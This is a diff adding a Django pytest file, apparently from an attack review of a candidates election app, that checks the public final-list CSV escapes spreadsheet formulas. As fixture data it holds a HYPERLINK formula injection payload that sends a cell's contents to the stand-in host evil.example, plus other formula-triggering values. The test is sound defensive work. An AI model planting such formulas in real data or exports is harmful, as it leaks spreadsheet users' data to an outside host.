@@ -1,0 +1,48 @@
+"""Attack review (December 2026): what an outsider tried against the candidates app's
+public and staff surfaces, each through the public interface (docs/reviews/2026-12-attack.md)."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from amanat.candidates.models import FinalList, FinalListEntry, State
+from amanat.candidates.tests import review_factories as f
+from amanat.candidates.tests.conftest import World
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
+
+
+def _published(world: World, **names: Any) -> FinalList:
+    race = world.city_council
+    seat = world.city(world.geo.gharchak_city)
+    c = f.candidacy(contest=race, constituency=seat, county=world.geo.gharchak,
+                    state=State.QUALIFIED, **names)
+    final = FinalList.objects.create(contest=race, constituency=seat,
+                                     published_at=datetime.datetime(2026, 1, 20,
+                                                                    tzinfo=datetime.UTC))
+    FinalListEntry.objects.create(final_list=final, candidacy=c, ballot_order=1,
+                                  ballot_name=f"{c.first_name} {c.last_name}",
+                                  withdrawn_at=datetime.datetime(2026, 1, 21,
+                                                                 tzinfo=datetime.UTC),
+                                  withdrawal_note="+1-2")
+    return final
+
+
+def test_public_final_list_csv_does_not_carry_formulas(world: World) -> None:
+    """A name typed in the public registration form reaches the public CSV: a cell a
+    spreadsheet would run is escaped (the apostrophe every export uses)."""
+    final = _published(world, first_name=FORMULA, last_name="@SUM(1)")
+    text = Client().get(reverse("public_final_list_csv", args=[final.pk])).content.decode()
+    rows = list(csv.reader(line for line in io.StringIO(text.lstrip("\ufeff"))
+                           if not line.startswith("#")))
+    assert rows[1][1] == "'" + FORMULA + " @SUM(1)"
+    assert rows[1][5] == "'+1-2"
